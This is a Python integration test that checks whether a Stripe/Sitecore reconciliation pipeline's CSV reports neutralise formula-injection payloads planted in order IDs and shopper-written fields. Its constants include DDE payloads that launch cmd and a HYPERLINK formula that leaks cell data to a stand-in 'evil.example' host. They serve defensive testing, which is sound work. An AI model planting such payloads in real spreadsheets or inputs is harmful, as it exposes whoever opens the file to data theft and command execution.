"""Formula payloads in what shoppers and Stripe callers write never become live formulas in the
report CSVs: real DAG runs (``reconciliation_daily``, ``fraud_report_daily``) against the sandbox,
reading the files they write.

Planted on the scenario's day: an order whose buyer-written ``xp.PaymentStatus`` is a DDE
payload, PaymentIntents whose ``metadata.sitecore_order_id`` is a formula (one of them risky
enough for a fraud flag, so the payload is the fraud report's subject), and an order with a
negative total, whose amount must stay a number.
"""

from __future__ import annotations

import csv
import json
from datetime import timedelta

import pytest

from stripe_sitecore.reports.render import FORMULA_STARTS
from stripe_sitecore.store import StateStore
from tests.harness.airflow import run_dag
from tests.harness.services import connection_env
from tests.integration.flows import reports_scenario as scenario

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund here")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C notepad'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
ORPHAN_IDS = (HYPERLINK, MINUS, TAB, CR)


def at(hours: float):
    return scenario.at(hours)


def plant(sandbox) -> scenario.Scenario:
    sandbox.reset()
    s = scenario.Scenario(sandbox, *scenario.clients(sandbox))
    # A shopper's order, paid in Stripe, whose xp.PaymentStatus the storefront let them write.
    s.paid_order("o-xp-formula", "30.00", "USD", at(3), sitecore_records_payment=False)
    s.clock(at(3.5))
    s.ordercloud.patch_order("o-xp-formula", {"xp": {"PaymentStatus": DDE}})
    # PaymentIntents made by whoever holds a key, naming "orders" that are formulas.
    for n, order_id in enumerate(ORPHAN_IDS):
        when = at(5 + n)
        s.payment_intent(
            order_id, 1500 + n, "usd", when - timedelta(minutes=4), email=f"buyer{n}@example.com"
        )
        s.confirm(order_id, [scenario.VISA], when)
    # Risky, so the fraud report flags it, under the formula as its subject.
    when = at(10)
    s.payment_intent(SUM, 4600, "usd", when - timedelta(minutes=4), email="risky@example.com")
    s.confirm(SUM, ["pm_card_riskLevelElevated"], when)
    # An order total below zero: charged 12.50, so an amount mismatch shows both amounts.
    s.seed_order("o-negative", "-12.50", "USD", at(11) - timedelta(minutes=5))
    s.payment_intent("o-negative", 1250, "usd", at(11) - timedelta(minutes=4))
    s.confirm("o-negative", [scenario.VISA], at(11))
    s.clock(scenario.RUN_TIME)
    return s


@pytest.fixture(scope="module")
def reports(sandbox, airflow_db, tmp_path_factory):
    """Both DAGs run once over the planted day; the tests read the files."""
    tmp_path = tmp_path_factory.mktemp("csv-injection")
    plant(sandbox)
    url = f"sqlite:///{tmp_path / 'state.db'}"
    store = StateStore.from_url(url)
    store.migrate()
    store.dispose()
    folder = tmp_path / "reports"
    env = {
        **connection_env(sandbox, url),
        "AIRFLOW_VAR_STRIPE_SITECORE_RECONCILIATION": json.dumps({"reports_dir": str(folder)}),
        "AIRFLOW_VAR_STRIPE_SITECORE_FRAUD_REPORT": json.dumps({"reports_dir": str(folder)}),
    }
    for dag_id in ("reconciliation_daily", "fraud_report_daily"):
        result = run_dag(dag_id, scenario.LOGICAL_DATE, env)
        assert result.state == "success", result.task_states
    return folder


def read(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def live_formulas(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    """Cells a spreadsheet would run: a formula start, and not a plain number."""
    found = []
    for row in rows:
        for column, value in row.items():
            if value and value[0] in FORMULA_STARTS:
                try:
                    float(value)
                except ValueError:
                    found.append((column, value))
    return found


@pytest.mark.airflow
def test_formula_payloads_are_neutralised_in_both_report_csvs(reports):
    day = scenario.DAY
    items = read(reports / "reconciliation" / f"{day}.csv")
    flags = read(reports / "fraud" / f"{day}.csv")

    assert live_formulas(items) == []
    assert live_formulas(flags) == []

    by_order = {row["order_id"]: row for row in items if row["kind"] == "charge"}
    # Each payload is kept, whole, behind one quote: the text is still there to read and search.
    for payload in ORPHAN_IDS:
        assert by_order["'" + payload]["category"] == "orphan_charge"
    assert by_order["'" + SUM]["category"] == "orphan_charge"
    assert by_order["o-xp-formula"]["category"] == "paid_in_stripe_not_sitecore"
    assert by_order["o-xp-formula"]["sitecore_status"] == "'" + DDE
    # The note quotes the status mid-sentence, where it cannot start a formula.
    assert DDE in by_order["o-xp-formula"]["note"]

    [flagged] = [row for row in flags if row["subject"] == "'" + SUM]
    assert flagged["rule_id"] == "radar_risk_level"
    assert flagged["order_id"] == "'" + SUM


@pytest.mark.airflow
def test_negative_amounts_stay_numbers(reports):
    items = read(reports / "reconciliation" / f"{scenario.DAY}.csv")

    [negative] = [row for row in items if row["order_id"] == "o-negative"]
    assert negative["category"] == "amount_mismatch"
    assert (negative["stripe_amount"], negative["sitecore_amount"]) == ("12.50", "-12.50")
